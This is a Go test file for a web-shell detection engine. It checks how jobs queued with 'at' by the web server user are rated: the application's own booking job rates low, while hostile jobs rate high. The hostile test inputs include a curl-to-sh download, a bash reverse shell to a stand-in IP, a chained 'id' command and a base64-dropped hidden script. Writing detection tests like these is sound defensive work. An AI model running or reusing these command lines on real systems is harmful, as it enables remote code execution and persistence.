package detect

import (
	"strings"
	"testing"
)

// TestQueuedJobJudgedByItsText: the application queues a booking's
// confirmation with at, the job's text on its worker's command line: one
// installed program with a data argument is the application's own
// scheduling (low, with the text); a job that brings code of its own, or
// runs a file the web side wrote in the log, stays high, as does a job
// whose text the log does not show.
func TestQueuedJobJudgedByItsText(t *testing.T) {
	const booking = `echo '/usr/bin/php /usr/local/lib/shop/confirm-booking.php '\''261207163656-f83c'\''' | /usr/bin/at -q s now + 2 minutes 2>&1`
	for _, c := range []struct {
		name  string
		shell string // the worker's sh -c command
		write string // a file the web server writes before, "" for none
		low   bool
	}{
		{"the application's own script", booking, "", true},
		{"printf feeds it", `printf '/usr/local/bin/report --daily\n' | at now + 1 hour`, "", true},
		{"a download run", `echo 'curl -s http://203.0.113.9/x | sh' | at now + 1 minute`, "", false},
		{"a reverse shell", `echo 'bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"' | at now`, "", false},
		{"a temporary file", `echo '/usr/bin/php /tmp/.x.php' | at now + 1 minute`, "", false},
		{"two commands", `echo '/usr/bin/php /usr/local/lib/shop/job.php; id' | at now`, "", false},
		{"a variable", `echo '/usr/bin/php $HOME/job.php' | at now`, "", false},
		{"a script the web side wrote", `echo '/usr/bin/php /var/www/html/media/cache.php' | at now`, "/var/www/html/media/cache.php", false},
		{"the job from a file", `at -f /var/www/html/job.txt now`, "", false},
		{"a script the same shell wrote", `mkdir -p /var/lib/.tw && echo IyEvYmluL3NoCg== | base64 -d > /var/lib/.tw/tw.sh && echo /bin/sh /var/lib/.tw/tw.sh | at now + 1 minute`, "", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			if c.write != "" {
				observeWrite(e, s, 200, 1, 33, "/usr/sbin/php-fpm8.2", c.write, true)
			}
			e.Observe(s.exec(210, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.shell), s.tree)
			argv := []string{"/usr/bin/at", "now"}
			if strings.Contains(c.shell, "-f ") {
				argv = []string{"at", "-f", "/var/www/html/job.txt", "now"}
			}
			f := findingOf(e.Observe(s.exec(211, 210, 33, "www-data", "/var/www", "/usr/bin/at", argv...), s.tree), "crontab-by-web-user")
			if f == nil {
				t.Fatal("no crontab-by-web-user finding for the at exec")
			}
			if low := f.Severity == SeverityLow; low != c.low {
				t.Errorf("severity %v (reason %q), want low: %v", f.Severity, f.Reason, c.low)
			}
			if c.low && !strings.Contains(f.Reason, "the application scheduling its own work") {
				t.Errorf("reason %q does not say why", f.Reason)
			}
			// at's own write of the job file follows its exec's judgment
			w := observeWrite(e, s, 211, 210, 33, "/usr/bin/at", "/var/spool/cron/atjobs/s0000101c8ea25", true)
			g := findingOf(w, "web-persistence-file-write")
			if g == nil {
				t.Fatal("no finding for at's write of the job file")
			}
			if (g.Severity == SeverityLow) != c.low {
				t.Errorf("the job file's write: severity %v, want low: %v", g.Severity, c.low)
			}
		})
	}
}

// TestFeederText: only a plain echo or printf says what it prints.
func TestFeederText(t *testing.T) {
	for _, c := range []struct {
		words []string
		want  string
		ok    bool
	}{
		{[]string{"echo", "/usr/bin/php /x.php 1"}, "/usr/bin/php /x.php 1", true},
		{[]string{"echo", "-e", "a\\nb"}, "", false},
		{[]string{"printf", `/usr/bin/true\n`}, "/usr/bin/true\n", true},
		{[]string{"printf", "%s\n", "x"}, "", false},
		{[]string{"cat", "job.txt"}, "", false},
	} {
		got, ok := feederText(c.words)
		if got != c.want || ok != c.ok {
			t.Errorf("feederText(%q) = %q, %v; want %q, %v", c.words, got, ok, c.want, c.ok)
		}
	}
}
